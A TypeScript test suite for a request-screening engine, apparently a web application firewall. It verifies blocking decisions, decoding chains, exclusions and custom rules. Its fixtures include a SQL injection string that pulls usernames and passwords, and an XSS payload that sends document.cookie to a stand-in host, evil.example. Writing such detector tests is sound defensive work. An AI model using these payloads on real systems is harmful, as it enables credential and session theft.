import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { nearlyDecided, unsureDetectors } from '../../bench/lib/unsure.ts';
import { categories } from '../../src/contract/category.ts';
import { defaultPolicy, type Exclusion, type Policy } from '../../src/contract/policy.ts';
import { noContext } from '../../src/contract/request.ts';
import type { Verdict } from '../../src/contract/verdict.ts';
import { createEngine, type Engine } from '../../src/core/engine.ts';
import { fixtureBodies } from '../support/fixtures.ts';
import { attacks } from './attacks.ts';

const attack = "1' union select username, password from users -- -";
const other = '<script>fetch("//evil.example/?"+document.cookie)</script>';
const escaped = (text: string): string => encodeURIComponent(text);

const engine = createEngine();
/** The same rules, none so sure that decoding ends. */
const unsure = createEngine(unsureDetectors);

const policies: readonly Policy[] = [
  {},
  { mode: 'monitor' } as const,
  { onIncomplete: 'allow' } as const,
  { categoriesOff: ['sqli', 'xss'] } as const,
  { categoriesOff: categories.filter((one) => one !== 'cmdi'), onIncomplete: 'allow' } as const,
  { exclusions: [excluded({ category: 'sqli' }), excluded({ category: 'traversal' })] },
  { exclusions: [excluded({ pointer: '/first', rule: 'xss.script-call' })] },
  { customRules: [custom('select', 90), custom('script', 89), custom('etc', 100)] },
  { customRules: [custom('a', 95)], onIncomplete: 'allow' } as const,
].map((parts) => ({ ...defaultPolicy, ...parts }));

describe('once a finding stands that blocks at every sensitivity', () => {
  it('the decision is that of all readings, under any policy', () => {
    const bodies = [...fixtureBodies(), ...attacks.map((value) => ({ value }))];
    let decided = 0;
    for (const [index, body] of bodies.entries()) {
      const next = bodies[(index * 7 + 1) % bodies.length];
      const sensitivity = ([1, 2, 3, 4] as const)[index % 4] ?? 1;
      const by = { ...(policies[index % policies.length] as Policy), sensitivity };
      const besides = [
        { first: body, last: next },
        { first: escaped(other), last: body },
      ];
      for (const whole of [body, ...besides]) {
        const [verdict, open] = [screened(engine, whole, by), screened(unsure, whole, by)];
        const isSure = open.findings.some(({ score }) => score === nearlyDecided);
        const isBlock = isSure || open.decision === 'block';
        assert.equal(verdict.decision, isBlock ? 'block' : 'allow', JSON.stringify([whole, by]));
        if (verdict.coverage.reasons.includes('decided')) decided++;
      }
    }
    assert.ok(decided > 500);
  });

  it('nothing is decoded further, and the verdict says so', () => {
    const { decision, findings, coverage } = verdictOn({ a: attack, b: escaped(other) });
    assert.deepEqual(
      [decision, coverage.complete, coverage.reasons],
      ['block', false, ['decided']],
    );
    assert.deepEqual(new Set(findings.map(({ pointer }) => pointer)), new Set(['/a']));
  });

  it('other fields are screened as they came', () => {
    const { findings } = verdictOn({ a: attack, b: other });
    assert.deepEqual(new Set(findings.map(({ pointer }) => pointer)), new Set(['/a', '/b']));
  });

  it('the verdict is complete where nothing was left to decode', () => {
    const { decision, coverage } = verdictOn({ value: attack });
    assert.deepEqual([decision, coverage.complete, coverage.reasons], ['block', true, []]);
  });

  it('an encoded attack is found by the decodings that lead to it', () => {
    const [finding] = verdictOn({ a: Buffer.from(escaped(attack)).toString('base64') }).findings;
    assert.deepEqual(finding?.decoded, ['base64', 'percent']);
  });

  it('an exclusion of the finding brings the decodings back', () => {
    const body = { a: attack, b: escaped(other) };
    const exclusions = [excluded({ pointer: '/a', category: 'sqli' })];
    const { findings, coverage } = verdictOn(body, { ...defaultPolicy, exclusions });
    assert.ok(findings.some(({ pointer, decoded }) => pointer === '/b' && decoded.length > 0));
    assert.deepEqual(new Set(findings.map(({ pointer }) => pointer)), new Set(['/b']));
    assert.equal(coverage.reasons.includes('decided'), !coverage.complete);
  });

  it('it is a block whatever becomes of incomplete requests', () => {
    const policy = { ...defaultPolicy, onIncomplete: 'allow' } as const;
    const { decision, coverage } = verdictOn({ a: attack, b: escaped(other) }, policy);
    assert.deepEqual([decision, coverage.reasons], ['block', ['decided']]);
  });

  it('a rule of the policy ends decoding as well, from its score on', () => {
    const reasonsAt = (score: number) =>
      verdictOn(
        { a: 'zebra', b: '%41%42' },
        { ...defaultPolicy, customRules: [custom('zebra', score)] },
      ).coverage.reasons;
    assert.deepEqual([reasonsAt(89), reasonsAt(90)], [[], ['decided']]);
  });

  it('the examples of a rule of the policy are found, whatever ordinary rules find in them', () => {
    const customRules = [{ ...custom('zebra', 60), examples: [`${attack} %7Aebra`] }];
    assert.deepEqual(engine.checkPolicy({ ...defaultPolicy, customRules }), []);
  });

  it('the explanation shows no view that was not screened', () => {
    const body = JSON.stringify({ a: escaped(other), b: attack, c: escaped(attack) });
    const request = { body, context: noContext };
    const outcome = engine.explain(request, defaultPolicy, 'fields');
    assert.ok(outcome.kind === 'explained');
    const chains = outcome.explanation.fields
      .filter(({ where }) => where === 'value')
      .map(({ views }) => views.map(({ decoded }) => decoded.join()));
    assert.deepEqual(chains, [['', 'percent'], [''], ['']]);
  });
});

function verdictOn(body: unknown, policy: Policy = defaultPolicy): Verdict {
  return screened(engine, body, policy);
}

function screened(by: Engine, body: unknown, policy: Policy): Verdict {
  const result = by.screen({ body: JSON.stringify(body), context: noContext }, policy);
  assert.equal(result.kind, 'verdict');
  return result.verdict;
}

function excluded(part: Partial<Exclusion>): Exclusion {
  const createdAt = '2026-01-01T00:00:00Z';
  return { id: 'one', pointer: '/**', reason: 'property', author: 'ada', createdAt, ...part };
}

function custom(literal: string, score: number) {
  return {
    id: `custom.${literal}`,
    category: 'other',
    cwe: 'CWE-20',
    severity: 'low',
    score,
    message: 'is one of a property',
    literals: [literal],
    examples: [literal],
    lookalikes: ['-'],
  } as const;
}
